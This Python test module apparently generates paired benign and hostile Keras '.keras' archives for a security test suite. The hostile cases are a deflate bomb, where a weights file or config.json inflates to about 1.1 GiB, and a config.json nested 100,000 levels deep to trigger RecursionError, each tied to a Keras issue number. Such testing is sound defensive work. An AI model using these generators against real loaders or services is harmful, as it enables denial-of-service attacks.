"""Archives of Keras with members that inflate to far more than they take."""

from __future__ import annotations

import functools
import json
import struct
import zlib
from pathlib import Path

from .cases import EITHER, MIB, whole
from .keras_zip import CONFIG, central, local, weights_file, write_archive


@functools.cache
def deflated_behind(head: bytes, n_mib: int) -> tuple[bytes, int, int]:
    """The deflate stream of some bytes and so many MiB of zeros behind them, with its CRC and length."""
    block = bytes(MIB)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    zeros = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # after a full flush all blocks are alike
    checksum = zlib.crc32(head)
    for _ in range(n_mib):
        checksum = zlib.crc32(block, checksum)
    return start + zeros * n_mib + packer.flush(), checksum, len(head) + n_mib * MIB


def inflating_member(path: Path, member: str, head: bytes, is_hostile: bool) -> None:
    """An archive with a member that is these bytes and, in the hostile one, 1.1 GiB of zeros behind them."""
    write_archive(path, {member: b""})
    stream, checksum, length = deflated_behind(head, 1126 if is_hostile else 1)
    data = path.read_bytes()
    at, start, directory = central(data, member.encode()), local(data, member.encode()), data.index(b"PK\x01\x02")
    found = bytearray(data)
    for offset in (start + 8, at + 10):  # method, then after time and date: CRC, both sizes
        struct.pack_into("<H", found, offset, 8)
        struct.pack_into("<III", found, offset + 6, checksum, len(stream), length)
    begin = start + 30 + len(member)
    for other in range(3):  # members behind it move
        entry = [i for i in range(directory, len(data)) if data[i : i + 4] == b"PK\x01\x02"][other]
        offset = struct.unpack_from("<I", data, entry + 42)[0]
        struct.pack_into("<I", found, entry + 42, offset + (len(stream) if offset > start else 0))
    struct.pack_into("<I", found, len(data) - 6, directory + len(stream))
    path.write_bytes(bytes(found[:begin]) + stream + bytes(found[begin:]))


@whole(".keras", "declare|bytes|expand|large|more than|times|budget|limit")
def weights_that_inflate_to_1_GiB(path: Path, is_hostile: bool) -> None:
    """keras #22975: a deflate bomb. A weights file with 1.1 GiB of zeros behind its end."""
    inflating_member(path, "model.weights.h5", weights_file(), is_hostile)


@whole(".keras", "config|declare|bytes|large|more than|limit", EITHER)
def configuration_that_inflates_to_1_GiB(path: Path, is_hostile: bool) -> None:
    """keras #23016: the same in config.json."""
    inflating_member(path, "config.json", json.dumps(CONFIG).encode(), is_hostile)


@whole(".keras", "config|JSON|nested|deep", EITHER)
def configuration_nested_deeply_keras(path: Path, is_hostile: bool) -> None:
    """json.loads raises RecursionError."""
    depth = 100_000 if is_hostile else 3
    write_archive(path, {"config.json": b"[" * depth + b"]" * depth})
